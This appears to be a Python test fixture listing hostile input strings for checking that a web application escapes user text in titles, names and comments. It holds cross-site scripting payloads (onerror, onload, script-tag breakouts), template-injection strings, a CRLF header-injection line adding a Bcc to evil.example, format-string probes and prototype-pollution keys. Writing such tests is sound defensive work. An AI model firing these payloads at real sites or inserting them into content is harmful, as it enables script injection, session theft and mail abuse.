"""Attacks by plain words: titles, names, responses, comments, searches."""

from tests.hostile.attacks import attack

WORDS = (
    attack(
        "markup in words",
        "<img src=x onerror=FIRE>",
        "<script>FIRE</script>",
        "&lt;img src=x onerror=FIRE&gt;",
    ),
    attack("attribute's end", '" autofocus onfocus=FIRE x="', "' onmouseover='FIRE", "`x` onclick=FIRE"),
    attack(
        "template literal", "{{ 7|add:7 }} {% load static %} ${FIRE}", "{{constructor.constructor('FIRE')()}}"
    ),
    attack(
        "script's end",
        "</script><script>FIRE</script>",
        "<!--<script>FIRE",
        "'-FIRE-'\\\";FIRE//\u2028",
    ),
    attack("end of a document", "</title></textarea></style><svg onload=FIRE>", "]]>&x;<a onclick='FIRE'>"),
    attack("line end in a header", "x\r\nBcc: a@evil.example\r\n\r\n<img src=x onerror=FIRE>"),
    attack("format string", "%s %(x)s {0} {0.__class__} {pwned} %n"),
    attack("property of a prototype", "__proto__", "constructor"),
)
